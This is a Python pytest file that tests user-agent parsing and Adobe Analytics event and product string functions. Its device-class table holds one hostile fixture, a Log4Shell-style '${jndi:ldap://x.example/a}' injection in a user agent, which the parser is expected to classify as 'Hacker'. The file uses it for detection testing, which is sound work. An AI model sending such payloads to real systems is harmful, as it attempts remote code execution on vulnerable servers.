"""Functions on user agents and on Analytics texts: what is documented, nulls, wrong kinds, and that all ends well."""

from __future__ import annotations

import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from emulator.domain.language.registry import FUNCTIONS
from emulator.domain.language.values import Problem, Value
from tests.language_values import arguments, called, gives_a_value_or_a_problem

IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 5_1_1 like Mac OS X) AppleWebKit/534.46 (KHTML, like Gecko) "
    "Version/5.1 Mobile/9B206 Safari/7534.48.3"
)
EDGE = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Safari/537.36 Edg/120.0.2210.61"
)
GALAXY = (
    "Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 "
    "Mobile Safari/537.36"
)
PRODUCTS = ";Example product 1;1;3.50,Example category 2;Example product 2"
WITH_EVENTS = ";One;1;4.20;event1=2.3|event2=5:1,;Two;1;4.20;event1=3|event2=2:2"
NAMES = sorted(name for name in FUNCTIONS if name.startswith(("ua_", "aa_")))

GIVES: list[tuple[str, list[Value], Value]] = [
    ("ua_os_name", [IPHONE], "iOS"),
    ("ua_os_version_major", [IPHONE], "iOS 5"),
    ("ua_os_version", [IPHONE], "5.1.1"),
    ("ua_os_name_version", [IPHONE], "iOS 5.1.1"),
    ("ua_agent_version", [IPHONE], "5.1"),
    ("ua_agent_version_major", [IPHONE], "Safari 5"),
    ("ua_agent_name", [IPHONE], "Safari"),
    ("ua_device_class", [IPHONE], "Phone"),
    ("ua_os_name_version", [EDGE], "Windows 10"),
    ("ua_agent_name", [EDGE], "Edge"),
    ("ua_agent_version", [EDGE], "120.0.2210.61"),
    ("ua_agent_version_major", [GALAXY], "Chrome 112"),
    ("ua_os_name", ["nothing of the kind"], None),
    ("ua_os_name_version", ["nothing of the kind"], None),
    ("ua_agent_version_major", ["nothing of the kind"], None),
    ("ua_device_class", ["nothing of the kind"], "Unknown"),
    ("aa_get_event_id", ["event101=5:123456,scOpen", "event101"], "123456"),
    ("aa_get_event_id", ["event101=5:123456,scOpen", "scOpen"], None),
    ("aa_get_event_id", ["event7:abc", "event7"], "abc"),
    ("aa_get_event_id", ["event10=5:1", "event1"], None),
    ("aa_get_event_value", ["event101=5:123456,scOpen", "event101"], "5"),
    ("aa_get_event_value", ["event101=5:123456,scOpen", "scOpen"], "1"),
    ("aa_get_event_value", ["event7:abc", "event7"], "1"),
    ("aa_get_event_value", ["a=1, b=2.50", "b"], "2.50"),
    ("aa_get_event_value", ["event7", "event8"], None),
    ("aa_get_product_categories", [PRODUCTS], [None, "Example category 2"]),
    ("aa_get_product_names", [PRODUCTS], ["Example product 1", "Example product 2"]),
    ("aa_get_product_quantities", [PRODUCTS], ["1", None]),
    ("aa_get_product_prices", [PRODUCTS], ["3.50", None]),
    ("aa_get_product_names", [""], []),
    ("aa_get_product_names", [";a,,;b,"], ["a", "b"]),
    ("aa_get_product_event_values", [WITH_EVENTS, "event2"], ["5", "2"]),
    ("aa_get_product_event_values", [";a;;;e=2,;b,;c;;;e", "e"], ["2", None, "1"]),
    ("aa_get_product_event_ids", [WITH_EVENTS, "event2"], ["1", "2"]),
    ("aa_get_product_event_ids", [WITH_EVENTS, "event1"], [None, None]),
    ("aa_get_product_events", [WITH_EVENTS, "event2"], [{"id": "1", "value": "5"}, {"id": "2", "value": "2"}]),
    ("aa_get_product_evars", [";Cap;1;6.69;;eVar1=Sale", "eVar1"], ["Sale"]),
    ("aa_get_product_evars", [";Cap;1;9.95;;eVar1=red|eVar2=a=b:c,;Hat", "eVar2"], ["a=b:c", None]),
]

CLASSES: dict[str, list[str]] = {
    "Desktop": [
        EDGE,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 Chrome/114.0.0.0 Safari/537.36",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; Tablet PC 2.0)",
    ],
    "Phone": [
        GALAXY,
        "Mozilla/5.0 (Linux; Android 12; CUBOT NOTE 30) AppleWebKit/537.36 Chrome/112.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) Mobile Safari/537.36 Edge/15.15063",
    ],
    "Tablet": [
        "Mozilla/5.0 (iPad; CPU OS 16_5 like Mac OS X) AppleWebKit/605.1.15 CriOS/114.0.5735.99 Mobile/15E148",
        "Mozilla/5.0 (Linux; Android 12; SM-X906C) AppleWebKit/537.36 Chrome/80.0.3987.119 Safari/537.36",
    ],
    "Mobile": ["Mozilla/5.0 (Mobile; rv:48.0) Gecko/48.0 Firefox/48.0"],
    "Robot": ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/8.0.1"],
    "Robot Mobile": ["Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X) Mobile Safari/537.36 (compatible; Googlebot/2.1)"],
    "TV": ["Mozilla/5.0 (SMART-TV; Linux; Tizen 5.0) AppleWebKit/538.1 Version/5.0 NativeTVAds Safari/538.1"],
    "Set-top box": ["Roku/DVP-9.10 (519.10E04111A)", "Mozilla/5.0 (Linux; Android 5.1.1; AFTM Build/LVY48F) Mobile"],
    "Game Console": ["Mozilla/5.0 (PlayStation 4 3.11) AppleWebKit/537.73 (KHTML, like Gecko)"],
    "Handheld Game Console": ["Mozilla/5.0 (PlayStation Vita 3.61) AppleWebKit/537.73 (KHTML, like Gecko) Silk/3.2"],
    "eReader": ["Mozilla/5.0 (X11; U; Linux armv7l like Android; en-us) Version/5.0 Safari/533.2+ Kindle/3.0+"],
    "Watch": ["AppleWatch6,2/8.0 (watchOS 8.0)"],
    "Car": ["Mozilla/5.0 (X11; GNU/Linux) AppleWebKit/601.1 (KHTML, like Gecko) Tesla QtCarBrowser Safari/601.1"],
    "Virtual Reality": ["Mozilla/5.0 (Linux; Android 10; Quest 2) OculusBrowser/16.6.0 Chrome/91.0 VR Safari/537.36"],
    "Augmented Reality": ["Mozilla/5.0 (Windows NT 10.0; Win64; x64; WebView/3.0; HoloLens 2) Edge/18.17763"],
    "Voice": ["AlexaMediaPlayer/2.1.4676.0 (Linux;Android 5.1.1) ExoPlayerLib/1.5.9"],
    "Home Appliance": ["Mozilla/5.0 (Linux; Tizen 2.3; FamilyHub) AppleWebKit/538.1 Version/2.3 TV Safari/538.1"],
    "Cloud": ["Amazon CloudFront"],
    "Hacker": ["Mozilla/5.0 ${jndi:ldap://x.example/a}"],
    "Anonymized": ["Mozilla/5.0 (anonymized)"],
    "Unknown": ["", "?"],
}


@pytest.mark.parametrize(("name", "given_values", "expected"), GIVES, ids=lambda value: str(value)[:40])
def test_a_function_gives_what_is_documented_or_was_chosen(
    name: str, given_values: list[Value], expected: Value
) -> None:
    assert called(name, *given_values) == expected


def test_every_function_of_these_categories_has_a_vector() -> None:
    assert {name for name, _, _ in GIVES} == set(NAMES)


@pytest.mark.parametrize(("expected", "text"), [(name, text) for name, texts in CLASSES.items() for text in texts])
def test_a_device_has_one_of_the_published_classes(expected: str, text: str) -> None:
    assert called("ua_device_class", text) == expected


@pytest.mark.parametrize("name", NAMES)
def test_null_gives_null(name: str) -> None:
    given_values = [None, "event1"][: FUNCTIONS[name].least]
    assert called(name, *given_values) is None
    if len(given_values) == 2:
        assert called(name, "event1", None) is None


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("value", [["a"], {"a": "b"}], ids=["array", "object"])
def test_an_array_or_object_is_a_problem(name: str, value: Value) -> None:
    with pytest.raises(Problem, match="a text is needed"):
        called(name, *[value, "event1"][: FUNCTIONS[name].least])


@given(st.lists(st.text(alphabet="abc019.=:|; ", min_size=1, max_size=12).filter(str.strip), max_size=6))
def test_what_is_read_of_a_products_text_pairs_up(products: list[str]) -> None:
    text = ",".join(products)
    lengths = {
        len(called(name, *[text, "a"][: FUNCTIONS[name].least])) for name in NAMES if name.startswith("aa_get_product")
    }
    assert lengths == {len(products)}


@given(st.data())
def test_any_values_give_a_value_or_a_problem(data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(NAMES))
    gives_a_value_or_a_problem(name, *(data.draw(arguments) for _ in range(FUNCTIONS[name].least)))


def test_a_text_of_any_length_is_read_quickly_as_its_beginning() -> None:
    assert called("ua_os_version", IPHONE + " x" * 1_000_000) == "5.1.1"


def test_the_rules_of_user_agents_are_loaded_when_they_are_needed() -> None:
    code = "import sys, emulator.domain.language.functions; print('ua_parser' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "False"
